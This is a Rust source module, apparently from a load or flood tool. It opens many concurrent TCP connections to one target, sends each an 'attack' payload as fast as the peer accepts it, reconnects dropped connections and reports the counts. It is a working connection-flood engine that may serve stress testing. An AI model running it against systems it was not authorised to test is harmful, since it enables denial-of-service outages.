//! Sends an attack on many connections at once, as fast as the other side takes it; a connection
//! that ends is made again.

use std::{
    io::{ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use anyhow::Result;
use nix::sys::epoll::{Epoll, EpollCreateFlags, EpollEvent, EpollFlags, EpollTimeout};
use serde::{Deserialize, Serialize};

use super::{attack::Attack, raise_descriptors};

/// Most that is written to one connection before others have their turn.
const TURN: usize = 256 << 10;

/// After a connect that failed, the next on the same place.
const PAUSE: Duration = Duration::from_millis(20);

/// What was sent.
#[derive(Clone, Copy, Debug, Default, Deserialize, PartialEq, Serialize)]
pub struct Report {
    /// Bytes that the kernel took.
    pub bytes: u64,
    /// Connections that were made.
    pub connections: u64,
    /// Connects that failed.
    pub refused: u64,
    /// Connections that the other side ended.
    pub ended: u64,
}

struct Flood<'a> {
    attack: &'a Attack,
    address: SocketAddr,
    epoll: Epoll,
    places: Vec<ConnectTarget>,
    report: Report,
    scratch: Vec<u8>,
}

/// Where one connection after the other is made.
#[derive(Default)]
struct ConnectTarget {
    stream: Option<TcpStream>,
    sent: usize,
    /// Not before this time.
    next: Option<Instant>,
}

/// Sends it for so long.
///
/// # Errors
/// What epoll says; a connection that fails is in the report.
pub fn run(
    attack: &Attack,
    address: SocketAddr,
    connections: usize,
    duration: Duration,
) -> Result<Report> {
    raise_descriptors()?;
    let epoll = Epoll::new(EpollCreateFlags::EPOLL_CLOEXEC)?;
    let places = (0..connections).map(|_| ConnectTarget::default()).collect();
    let (report, scratch) = (Report::default(), vec![0; 256 << 10]);
    let mut flood = Flood { attack, address, epoll, places, report, scratch };
    let end = Instant::now() + duration;
    let mut events = vec![EpollEvent::empty(); 256];
    while Instant::now() < end {
        flood.connect_missing(end)?;
        let count = flood.epoll.wait(&mut events, EpollTimeout::from(10_u8))?;
        for event in &events[..count] {
            let at = usize::try_from(event.data()).expect("a place's number");
            if !flood.turn(at)? {
                flood.places[at] = ConnectTarget::default();
            }
        }
    }
    Ok(flood.report)
}

impl Flood<'_> {
    fn connect_missing(&mut self, end: Instant) -> Result<()> {
        for at in 0..self.places.len() {
            let place = &mut self.places[at];
            let now = Instant::now();
            if now >= end {
                return Ok(());
            }
            if place.stream.is_some() || place.next.is_some_and(|next| now < next) {
                continue;
            }
            let Ok(stream) = TcpStream::connect_timeout(&self.address, Duration::from_secs(1))
            else {
                self.report.refused += 1;
                place.next = Some(now + PAUSE);
                continue;
            };
            stream.set_nonblocking(true)?;
            let both = EpollFlags::EPOLLIN | EpollFlags::EPOLLOUT;
            self.epoll.add(&stream, EpollEvent::new(both, at as u64))?;
            *place = ConnectTarget { stream: Some(stream), ..ConnectTarget::default() };
            self.report.connections += 1;
        }
        Ok(())
    }

    /// Writes what there is room for, and reads; false once the connection is over.
    fn turn(&mut self, at: usize) -> Result<bool> {
        let Self { attack, places, report, scratch, epoll, .. } = self;
        let place = &mut places[at];
        let Some(stream) = &mut place.stream else { return Ok(true) };
        if attack.reads {
            match stream.read(scratch) {
                Ok(0) => {
                    report.ended += 1;
                    return Ok(false);
                }
                Err(error) if error.kind() != ErrorKind::WouldBlock => {
                    report.ended += 1;
                    return Ok(false);
                }
                _ => {}
            }
        }
        let mut left = TURN;
        while left > 0 {
            let Some(rest) = attack.rest(place.sent) else {
                if attack.rounds > 0 {
                    return Ok(false);
                }
                // Only its end is of interest.
                let mut event = EpollEvent::new(EpollFlags::empty(), at as u64);
                if attack.reads {
                    event = EpollEvent::new(EpollFlags::EPOLLIN, at as u64);
                }
                epoll.modify(&*stream, &mut event)?;
                return Ok(!is_over(stream, report));
            };
            match stream.write(&rest[..rest.len().min(left)]) {
                Ok(count) => {
                    place.sent += count;
                    left -= count;
                    report.bytes += count as u64;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(_) => {
                    report.ended += 1;
                    return Ok(false);
                }
            }
        }
        Ok(true)
    }
}

/// Whether the other side has reset the connection.
fn is_over(stream: &TcpStream, report: &mut Report) -> bool {
    let over = !matches!(stream.take_error(), Ok(None));
    report.ended += u64::from(over);
    over
}

impl Attack {
    /// What comes after so many bytes; None once all was sent.
    fn rest(&self, sent: usize) -> Option<&[u8]> {
        if sent < self.opening.len() {
            return Some(&self.opening[sent..]);
        }
        let length = self.repeated.len();
        if length == 0 {
            return None;
        }
        let sent = sent - self.opening.len();
        if self.rounds > 0 && sent >= self.rounds * length {
            return None;
        }
        Some(&self.repeated[sent % length..])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_opening_goes_once_and_the_rest_again_and_again() {
        let attack =
            Attack { opening: b"ab".to_vec(), repeated: b"cde".to_vec(), rounds: 2, reads: false };
        let (mut sent, mut all) = (0, Vec::new());
        while let Some(rest) = attack.rest(sent) {
            all.push(rest[0]);
            sent += 1;
        }
        assert_eq!(all, b"abcdecde");
        let once = Attack { repeated: Vec::new(), rounds: 0, ..attack };
        assert_eq!((once.rest(1), once.rest(2)), (Some(&b"b"[..]), None));
    }
}
